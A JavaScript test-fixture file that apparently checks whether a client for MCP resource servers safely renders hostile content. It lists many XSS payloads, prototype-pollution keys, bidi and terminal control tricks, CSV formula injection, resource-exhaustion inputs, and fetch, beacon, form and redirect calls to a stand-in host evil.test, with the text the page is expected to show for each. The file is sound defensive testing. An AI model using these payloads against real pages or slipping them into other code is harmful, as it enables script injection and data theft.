// Hostile contents. Each one would call attacked() or load something of http://evil.test if it were not made harmless.
const RUN = 'attacked()'
export const END = 'the page did all that it tries'
const EVIL = 'http://evil.test/steal'

const html = inner => ({ mimeType: 'text/html', text: inner })
const md = text => ({ mimeType: 'text/markdown', text })
const svg = inner => ({ mimeType: 'image/svg+xml', text: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inner}</svg>` })
/** A page of an app. Its last request is refused after all others were. It then reports that. */
const app = inner => ({ mimeType: 'text/html;profile=mcp-app', app: true, text: `${inner}<script>
  const end = () => fetch('${EVIL}/last').catch(() => parent.postMessage('${END}', '*'))
  document.readyState === 'complete' ? end() : addEventListener('load', end)</script>` })

/** Contents by the name of the attack. */
export const contents = {
  // Markdown
  'markdown: script': md(`<script>${RUN}</script>`),
  'markdown: image with a handler': md(`<img src=x onerror="${RUN}">`),
  'markdown: script link': md(`[go](javascript:${RUN})`),
  'markdown: script link with a line end': md(`[go](<java\nscript:${RUN}>)`),
  'markdown: script link with entities': md(`[go](&#106;avascript&colon;${RUN})`),
  'markdown: link of data': md('[go](data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZCgpPC9zY3JpcHQ+)'),
  'markdown: vbscript link': md(`<a href="vbscript:${RUN}">go</a>`),
  'markdown: picture that reports': md(`![x](${EVIL}.png)`),
  'markdown: picture of data': md('![x](data:image/svg+xml,<svg/onload=attacked()>)'),
  'markdown: reference link': md(`[go][a]\n\n[a]: javascript:${RUN} "onmouseover=${RUN}"`),
  'markdown: title that ends the attribute': md(`[go](http://a.test/ "x\\" onmouseover=\\"${RUN}")`),
  'markdown: code block with a language that ends the attribute': md('```"><img src=x onerror=attacked()>\ncode\n```'),
  'markdown: autolink': md(`<javascript:${RUN}>`),
  'markdown: frame': md(`<iframe src="javascript:${RUN}"></iframe><iframe srcdoc="<script>parent.attacked()</script>"></iframe>`),
  'markdown: form': md(`<form action="${EVIL}"><input name=token autofocus onfocus="${RUN}"><button>Connect</button></form>`),
  'markdown: style': md(`<style>@import "${EVIL}.css"; * { background: url(${EVIL}) }</style><p style="position:fixed;inset:0;background:url(${EVIL})">over</p>`),
  'markdown: base': md(`<base href="${EVIL}">[go](x)`),
  'markdown: refresh': md(`<meta http-equiv="refresh" content="0;url=${EVIL}">`),
  'markdown: link that loads': md(`<link rel="stylesheet" href="${EVIL}"><link rel="dns-prefetch" href="//evil.test"><link rel=prerender href="${EVIL}">`),
  'markdown: object': md(`<object data="${EVIL}"></object><embed src="${EVIL}"><applet code=x></applet>`),
  'markdown: media': md(`<video src="${EVIL}" poster="${EVIL}" onerror="${RUN}"></video><audio src="${EVIL}" onerror="${RUN}"></audio>`),
  'markdown: source set': md(`<img srcset="${EVIL} 1x" src="${EVIL}"><picture><source srcset="${EVIL}"><img src=x></picture>`),
  'markdown: MathML and SVG confusion': md(`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`),
  'markdown: SVG': md(`<svg><script>${RUN}</script><animate onbegin=${RUN} attributeName=x dur=1s></svg>`),
  'markdown: template': md(`<template><img src=x onerror=${RUN}></template><noscript><p title="</noscript><img src=x onerror=${RUN}>">`),
  'markdown: named elements': md('<form id=document><img name=getElementById></form><a id=explorer></a><a id=trustedTypes name=createPolicy></a>'),
  'markdown: ping': md(`<a href="https://example.com" ping="${EVIL}" target="_self">go</a>`),
  'markdown: details with a handler': md(`<details open ontoggle="${RUN}"><summary>x</summary></details>`),
  'markdown: popover': md(`<button popovertarget=x>b</button><div id=x popover onbeforetoggle="${RUN}">p</div>`),
  'markdown: nested very deep': md(`${'>'.repeat(20_000)}x\n\n${'- '.repeat(20_000)}x\n${'['.repeat(50_000)}`),
  'markdown: slow to parse': md(`${'*a_ **b'.repeat(30_000)}\n${'`'.repeat(30_000)}\n${'<'.repeat(30_000)}`),
  'markdown: broken surrogates and a zero byte': md('a\ud800b\u0000c\udc00 <img src=x\u0000 onerror=attacked()>'),
  'markdown: front matter': md(`---\ntitle: <img src=x onerror=${RUN}>\n---\n<img/src=x/onerror=${RUN}>`),
  // HTML
  'html: script': html(`<script>${RUN}</script><body onload=${RUN}>`),
  'html: window open': html(`<a href="javascript:window.open('${EVIL}')">go</a><a href="${EVIL}" target=_top>top</a>`),
  'html: old frames': html(`<frameset onload=${RUN}><frame src="javascript:${RUN}"></frameset>`),
  'html: shadow root': html(`<div><template shadowrootmode=open><img src=x onerror=${RUN}></template></div>`),
  'html: import of a module': html(`<script type=module>import '${EVIL}'</script><link rel=modulepreload href="${EVIL}">`),
  'html: upper case and comments': html(`<!--><IMG SRC=x ONERROR=${RUN}>--><ScRiPt>${RUN}</sCrIpT>`),
  'html: xml': { mimeType: 'application/xhtml+xml', text: `<html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>` },
  // SVG and pictures
  'svg: script': svg(`<script>${RUN}</script>`),
  'svg: handler': svg(`<g onload="${RUN}"/><image href="${EVIL}" onerror="${RUN}"/>`),
  'svg: foreign object': svg(`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="${EVIL}"/><script>${RUN}</script></body></foreignObject>`),
  'svg: use of another document': svg(`<use xlink:href="${EVIL}#x"/><style>@import "${EVIL}"</style>`),
  'svg: entities': { mimeType: 'image/svg+xml', text: `<!DOCTYPE svg [<!ENTITY x SYSTEM "${EVIL}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>` },
  'picture that is HTML': { mimeType: 'image/png', blob: Buffer.from(`<script>${RUN}</script>`).toString('base64') },
  'picture that claims a huge size': { mimeType: 'image/bmp', blob: Buffer.from('424d3a0000000000000036000000280000007fffffff7fffffff0100180000000000', 'hex').toString('base64') },
  'type with a handler': { mimeType: 'image/svg+xml"><script>attacked()</script>', text: '<svg onload=attacked()>' },
  // Other readers
  'json: markup and odd names': { mimeType: 'application/json', text: `{"__proto__": {"a": 1}, "<img src=x onerror=${RUN}>": "<script>${RUN}</script>", "constructor": null}` },
  'json: very deep': { mimeType: 'application/json', text: '['.repeat(200_000) + ']'.repeat(200_000) },
  'json: many members': { mimeType: 'application/json', text: `{${Array.from({ length: 100_000 }, (_, index) => `"k${index}":${index}`).join()}}` },
  'csv: formulas and markup': { mimeType: 'text/csv', text: `=HYPERLINK("${EVIL}"),<img src=x onerror=${RUN}>\n"open quote,${'x,'.repeat(5_000)}` },
  'csv: many columns': { mimeType: 'text/csv', text: `${','.repeat(200_000)}\n`.repeat(3) },
  'code: markup': { mimeType: 'text/x-java', text: `String s = "<img src=x onerror=${RUN}>"; // </pre><script>${RUN}</script>` },
  'code: slow to colour': { mimeType: 'text/javascript', text: `${'/'.repeat(50_000)}${'('.repeat(50_000)}${'`${'.repeat(20_000)}` },
  'text: terminal codes': { mimeType: 'text/plain', text: '\u001b]0;owned\u0007\u001b[31mred\u001b[0m\u009b2J' },
  'text: direction': { mimeType: 'text/plain', text: 'if (admin\u202e \u2066// check\u2069 \u2066) {' },
  'text: one line of 5 MB': { mimeType: 'text/plain', text: 'x'.repeat(5_000_000) },
  'text: stacked accents': { mimeType: 'text/plain', text: `Z${'\u0301'.repeat(100_000)}` },
  'blob: not base64': { mimeType: 'application/pdf', blob: `"><script>${RUN}</script>` },
  'pdf with a script': { mimeType: 'application/pdf', blob: Buffer.from(`%PDF-1.7 /OpenAction << /JS (${RUN}) >>`).toString('base64') },
  'content: wrong kinds of values': { contents: [null, 7, [], { uri: {}, mimeType: [], text: { toString: RUN } }, { uri: 5, blob: 9 }, {}] },
  'content: page of an app as a blob': { mimeType: 'text/html;profile=mcp-app', blob: Buffer.from(`<script>${RUN}</script>`).toString('base64') },
  'content: type and ending that each object has': { contents: [{ uri: 'x://a.constructor', text: 'a' }, { uri: 'x://a.toString', blob: 'YQ==' }] },
  'content: many parts': { contents: Array.from({ length: 5_000 }, (_, index) => ({ uri: `x:${index}`, text: `<b>${index}` })) },
  // Pages of apps: they may run, but only in their frame
  'app: parent': app(`<script>try { parent.document.title = 'owned'; parent.attacked() } catch {} try { top.location = '${EVIL}' } catch {}</script>`),
  'app: network': app(`<script>fetch('${EVIL}').catch(() => {}); new Image().src = '${EVIL}'; navigator.sendBeacon?.('${EVIL}'); try { new WebSocket('ws://evil.test') } catch {}
    fetch('/mcp', { method: 'POST', body: '{}' }).catch(() => {})</script><link rel=stylesheet href="${EVIL}"><script src="${EVIL}"></script>`),
  'app: navigation': app(`<meta http-equiv=refresh content="0;url=${EVIL}"><script>location = '${EVIL}'</script>`),
  'app: windows and forms': app(`<form id=f action="${EVIL}"></form><script>open('${EVIL}'); f.submit(); alert(1); print()</script>`),
  'app: frames of its own': app(`<iframe src="${EVIL}"></iframe><iframe src="/"></iframe><iframe srcdoc="<script>top.attacked()</script>"></iframe>`),
  'app: storage and workers': app("<script>try { localStorage.x = 1; parent.attacked() } catch {} try { new Worker(URL.createObjectURL(new Blob(['x']))) } catch {}</script>"),
  'app: messages to the page': app(`<script>for (let i = 0; i < 1000; i++) parent.postMessage({ page: '<script>attacked()<\\/script>', __proto__: 1 }, '*'); parent.postMessage('ready', '*')</script>`),
}

/** Names, descriptions and other fields of entries. */
export const entries = {
  'name: markup': { name: `<img src=x onerror=${RUN}>`, title: `<script>${RUN}</script>` },
  'name: direction and control': { name: 'gpj.\u202eexe\u0000\u001b[2J\u0007' },
  'name: one million characters': { name: 'n'.repeat(1_000_000), description: 'd'.repeat(1_000_000) },
  'description: markup': { name: 'd', description: `<iframe src="javascript:${RUN}"></iframe>[go](javascript:${RUN})` },
  'type: markup': { name: 't', mimeType: `text/html"><script>${RUN}</script>` },
  'icon: another server': { name: 'i', icons: [{ src: `${EVIL}.svg` }, { src: `javascript:${RUN}` }] },
  'fields: wrong kinds of values': { name: { a: 1 }, title: 7, description: [RUN], mimeType: {}, size: 'huge', annotations: 'x', _meta: [] },
  'description: no text': { name: 'v', description: { toString: 1, valueOf: 1 } },
  'size: not a number': { name: 's', size: -1e308, annotations: { lastModified: `<b onclick=${RUN}>` } },
}

/** URIs of entries whose content is a short text. */
export const uris = {
  'uri: script': `javascript:${RUN}`,
  'uri: data': `data:text/html,<script>${RUN}</script>`,
  'uri: markup': `x://"><img src=x onerror=${RUN}>`,
  'uri: percent signs and line ends': 'x://a%0d%0aMcp-Method:%20tools/call/\r\n%ff%',
  'uri: 40,000 folders': `deep:///${'a/'.repeat(40_000)}b`,
  'uri: not ASCII': 'x://ü/\u202e/💡',
  'uri: names of objects': 'x://__proto__/constructor/toString',
}

const PDF = 'pdf://{doc_id}/page/{n}{?format,size}'
const DOCUMENT = 'file:///hostile.pdf'
const picture = (mimeType, text) => ({ mimeType, blob: Buffer.from(text).toString('base64') })
const deep = levels => `${'[{"title":"t","page":1,"children":'.repeat(levels)}[]${'}]'.repeat(levels)}`

/** A server of PDF documents with these contents by the part of the document. */
function documents(parts, ids = ['0123456789ab']) {
  return {
    templates: [{ uriTemplate: PDF, name: 'page' }], capabilities: { completions: {} },
    resources: [{ uri: DOCUMENT, name: `<img src=x onerror=${RUN}>`, mimeType: 'application/pdf', blob: 'JVBERi0=' }],
    methods: {
      'completion/complete': () => ({ completion: { values: ids } }),
      'resources/read': ({ uri }) => {
        const part = /^pdf:\/\/[^/]+\/(.*)$/.exec(uri)?.[1]
        if (part === undefined) return { contents: [{ uri, mimeType: 'application/pdf', blob: 'JVBERi0=' }] }
        const found = Object.entries(parts).find(([name]) => part.startsWith(name))?.[1] ?? { mimeType: 'text/plain', text: 'none' }
        return { contents: [{ uri, ...found }] }
      },
    },
  }
}

/** Servers of PDF documents, and what the page shows of each. */
export const pdfs = {
  'page that is a script as a picture': { ...documents({ 'page/1': picture('image/png', `<script>${RUN}</script>`) }), expected: 'The browser cannot show the image of this page.' },
  'page that is an SVG picture': { ...documents({ 'page/1': picture('image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><image href="${EVIL}"/></svg>`) }), expected: 'The server returned no image for this page.' },
  'page that is HTML': { ...documents({ 'page/1': { mimeType: 'text/html', text: `<script>${RUN}</script><img src=${EVIL} onerror=${RUN}>` } }), expected: 'The server returned no image for this page.' },
  'page that is a page of an app': { ...documents({ 'page/1': { mimeType: 'text/html;profile=mcp-app', text: `<script>parent.attacked()</script>` } }), expected: 'This app may contain scripts.' },
  'page that is not base64': { ...documents({ 'page/1': { mimeType: 'image/png', blob: `"><script>${RUN}</script>` } }), expected: 'The browser cannot show the image of this page.' },
  'page with wrong kinds of values': { ...documents({ 'page/1': { mimeType: ['image/png'], blob: { toString: RUN }, text: 7 } }), expected: 'The server returned no image for this page.' },
  'text of a page with markup': { ...documents({ 'page/1?format=md': md(`# <script>${RUN}</script>\n[go](javascript:${RUN}) ![x](${EVIL}.png)<iframe srcdoc="<script>parent.attacked()</script>"></iframe>\n\nthe end`) }), text: true, expected: 'the end' },
  'text of a page with control characters': { ...documents({ 'page/1?format=md': md('a\u202eb\u001b[2J\u0007c') }), text: true, expected: 'a\\u202eb\\u001b[2J\\u0007c' },
  'text of a page that is a picture': { ...documents({ 'page/1?format=md': picture('image/png', 'x') }), text: true, expected: 'The server returned no text for this page.' },
  'outline that is not JSON': { ...documents({ outline: { text: `<script>${RUN}</script>` } }), expected: 'The server returned no image for this page.' },
  'outline with markup and control characters': { ...documents({ outline: { text: JSON.stringify({ pages: 3, outline: [{ title: `<img src=x onerror=${RUN}>\u202e\u0007`, page: 2, uri: `javascript:${RUN}` }] }) } }), bookmarks: true, expected: `<img src=x onerror=${RUN}>\\u202e\\u0007` },
  'outline with wrong kinds of values': { ...documents({ outline: { text: JSON.stringify({ pages: '9', outline: [null, 7, [], { title: {}, page: -1, children: 'x' }, { title: 5, page: 1e99 }] }) } }), bookmarks: true, expected: '(untitled)' },
  'outline that is very deep': { ...documents({ outline: { text: `{"pages":1,"outline":${deep(3_000)}}` } }), bookmarks: true, expected: 'Bookmarks (2,000 or more)' },
  'outline with many bookmarks': { ...documents({ outline: { text: JSON.stringify({ pages: 1, outline: Array.from({ length: 300_000 }, (_, index) => ({ title: `b${index}`, page: 1 })) }) } }), bookmarks: true, expected: 'Bookmarks (2,000 or more)' },
  'outline with more pages than any document': { ...documents({ outline: { text: '{"pages":1e300,"outline":{}}' } }), expected: 'The server returned no image for this page.' },
  'id that leads to another resource': { ...documents({}, ['../../x?y#z"><script>attacked()</script>']), expected: '00000000  25 50 44 46' },
  'ids of wrong kinds': { ...documents({}, [{ toString: 1 }]), expected: '00000000  25 50 44 46' },
}
export const HOSTILE_DOCUMENT = DOCUMENT

const markup = `<img src=x onerror=${RUN}>\u202e\u001b[2J`
const SHOWN = `<img src=x onerror=${RUN}>\\u202e\\u001b[2J`

/** Results of the method that explains a URI, and what the page shows of each. */
export const explanations = {
  'markup and control characters': {
    answer: { servedBy: 'template', uriTemplate: markup, variables: { [markup]: markup, __proto__: 'x', constructor: ['a', markup] },
      others: [{ uriTemplate: `${markup}{x}`, matches: true, token: '{x}', position: markup.length, reason: markup }] },
    expected: SHOWN,
  },
  'template that is a script link': { answer: { servedBy: 'template', uriTemplate: `javascript:${RUN}`, variables: {}, others: [] }, expected: `javascript:${RUN}` },
  'wrong kinds of values': { answer: { servedBy: 'constructor', uriTemplate: 7, variables: 'x', failure: {}, others: [null, 7, { uriTemplate: 'a', position: 1e9, token: {}, reason: [] }], maxTemplates: 'x' }, expected: 'No listed template matches it.' },
  'no list': { answer: { servedBy: 'none', others: 'none', variables: [] }, expected: 'No template or resource that you may read serves this URI.' },
  'tokens at wrong places': { answer: { servedBy: 'none', others: [{ uriTemplate: 'a://b', token: 'b', position: -3, reason: 'here' }, { uriTemplate: 'a://c', token: 'zz', position: 2, reason: 'there' }] }, expected: 'a://c' },
  '100,000 templates': { answer: { servedBy: 'none', others: Array.from({ length: 100_000 }, (_, index) => ({ uriTemplate: `t${index}://{x}`, matches: false, token: '', position: 0, reason: 'r' })) }, expected: '99,800 more templates are not shown.' },
  'one very long template': { answer: { servedBy: 'template', uriTemplate: `x://${'{a}/'.repeat(500_000)}`, variables: { a: 'v'.repeat(1_000_000) }, others: [] }, expected: 'This template serves the URI:' },
}

/** Answers to a request for the health, and what the page shows of each. */
export const healths = {
  'markup and control characters': {
    body: JSON.stringify({ status: markup, mounts: [{ mount: markup, state: markup, last_error: markup, resources: markup }], requests: { [markup]: markup, maxRunning: markup },
      slowestTemplates: [{ template: markup, count: markup, meanMillis: markup }], providers: [{ kind: markup, name: markup }], refused: { __proto__: 1 } }),
    expected: SHOWN,
  },
  'wrong kinds of values': { body: JSON.stringify({ status: {}, mounts: 'x', requests: [1], subscriptions: 7, bus: null, refused: 'x', listeners: { a: { b: [] } }, providers: [null, 7, []], slowestTemplates: {} }), expected: 'no status' },
  'a list': { body: '[1, 2]', expected: 'The server returned no health report (HTTP status 200).' },
  'no JSON': { body: `<script>${RUN}</script>`, expected: 'The server returned no health report (HTTP status 200).' },
  'null': { body: 'null', expected: 'The server returned no health report (HTTP status 200).' },
  '100,000 mounts and numbers': { body: JSON.stringify({ status: 'up', mounts: Array.from({ length: 30_000 }, (_, index) => ({ mount: `m${index}` })), refused: Object.fromEntries(Array.from({ length: 100_000 }, (_, index) => [`r${index}`, 1])) }), expected: 'm199' },
  'an endless answer': {
    send(response) {
      response.writeHead(200, { 'Content-Type': 'application/json' })
      const more = () => { while (!response.destroyed && response.write(' '.repeat(1_000_000))); }
      response.on('drain', more)
      more()
    },
    expected: 'The response has more than 4,194,304 characters',
  },
  'a redirect to another server': { send: response => response.writeHead(302, { Location: EVIL }).end(), expected: 'The server cannot be reached.' },
}
